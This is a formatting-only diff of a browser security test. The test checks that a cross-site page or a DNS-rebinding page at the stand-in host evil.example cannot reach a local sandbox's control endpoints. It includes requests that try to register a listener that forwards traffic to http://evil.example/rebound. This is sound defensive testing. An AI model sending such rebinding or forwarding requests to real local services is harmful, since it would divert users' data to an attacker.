@@ -67,7 +67,11 @@ describe.runIf(hasChromium)('a cross-site page and a DNS-rebinding page cannot d
     await page.goto(`http://evil.example:${evil}/`, { waitUntil: 'domcontentloaded' });
     await expect.poll(() => controlHits.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(4); // the page really made each request
     await new Promise((resolve) => setTimeout(resolve, 500));
-    const stats = (await (await fetch(sandbox.url + '/__sandbox/stats')).json()) as { listeners: string[]; failNext: { count: number }; tokenTtlSeconds: number };
+    const stats = (await (await fetch(sandbox.url + '/__sandbox/stats')).json()) as {
+      listeners: string[];
+      failNext: { count: number };
+      tokenTtlSeconds: number;
+    };
     expect({ listeners: stats.listeners, failNext: stats.failNext.count, ttl: stats.tokenTtlSeconds }).toEqual({ listeners: [], failNext: 0, ttl: 900 });
     const pushed = await sandbox.pushLogistics('SO20240601001');
     expect(pushed).toMatchObject({ ok: true, via: 'direct', url: hook });
@@ -87,7 +91,9 @@ describe.runIf(hasChromium)('a cross-site page and a DNS-rebinding page cannot d
         stats: await status(fetch('/__sandbox/stats')),
         events: await status(fetch('/__sandbox/events')),
         listenGet: await status(fetch('/__sandbox/listen?forward_to=http://evil.example/rebound')),
-        listenPost: await status(fetch('/__sandbox/listen', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"forward_to":"http://evil.example/rebound"}' })),
+        listenPost: await status(
+          fetch('/__sandbox/listen', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"forward_to":"http://evil.example/rebound"}' }),
+        ),
         token: await status(fetch('/__sandbox/token', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"user":"x"}' })),
       };
     });
